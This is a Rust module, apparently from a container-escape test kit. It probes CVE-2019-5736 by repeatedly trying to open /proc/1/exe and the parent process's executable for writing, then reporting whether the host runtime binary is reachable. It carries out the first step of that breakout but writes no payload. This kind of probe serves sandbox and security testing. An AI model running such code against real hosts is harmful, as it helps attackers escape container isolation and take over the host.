//! Opens for writing what its starter was started from, and the first process of its world,
//! CVE-2019-5736.

use crate::kit::{self, Args, join, nr};

pub fn attack(_: Args) -> ! {
    let starter = kit::decimal(kit::call(nr::GETPPID, []).unwrap_or(0));
    let mut answer = kit::Errno::ENOENT;
    for process in [b"1".as_slice(), starter.digits()] {
        let name = join(&[b"/proc/", process, b"/exe"]);
        for _ in 0..100 {
            match kit::open(name.with_nul(), kit::O_WRONLY) {
                Ok(_) => kit::through(format_args!("the launcher is open for writing")),
                // It runs, so that writing is busy; that is no wall: it may end before we do.
                Err(kit::Errno::ETXTBSY) => {
                    kit::through(format_args!("the launcher is open to whoever outlives it"))
                }
                Err(errno) => answer = errno,
            }
        }
    }
    kit::refused("open the launcher for writing", answer)
}
